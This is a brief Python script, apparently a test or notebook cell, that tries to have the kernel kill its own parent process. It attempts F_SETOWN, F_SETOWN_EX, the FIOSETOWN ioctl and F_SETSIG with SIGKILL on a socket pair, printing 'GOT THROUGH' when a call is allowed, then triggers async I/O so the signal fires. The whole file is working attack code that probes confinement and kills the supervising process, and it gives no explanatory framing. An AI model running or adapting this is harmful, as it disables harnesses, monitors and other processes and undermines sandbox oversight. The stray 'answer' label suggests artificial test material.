# Have the kernel send a deadly signal to the parent, as the owner of a pipe that gets ready.

# %% answer="Momentum"
import ctypes
import fcntl
import os
import signal
import socket
import struct

SETSIG, FIOSETOWN, FIOASYNC = 10, 0x8901, 0x5452
victim = os.getppid()
here, there = socket.socketpair()
attempts = (
    lambda: fcntl.fcntl(here, fcntl.F_SETOWN, victim),
    lambda: fcntl.fcntl(here, 15, struct.pack("ii", 1, victim)),  # F_SETOWN_EX
    lambda: fcntl.ioctl(here, FIOSETOWN, struct.pack("i", victim)),
    lambda: fcntl.fcntl(here, SETSIG, signal.SIGKILL),
)
for attempt in attempts:
    try:
        attempt()
        print("GOT THROUGH")
    except OSError as error:
        print(error)
fcntl.fcntl(here, fcntl.F_SETFL, fcntl.fcntl(here, fcntl.F_GETFL) | os.O_ASYNC)
there.send(b"x")
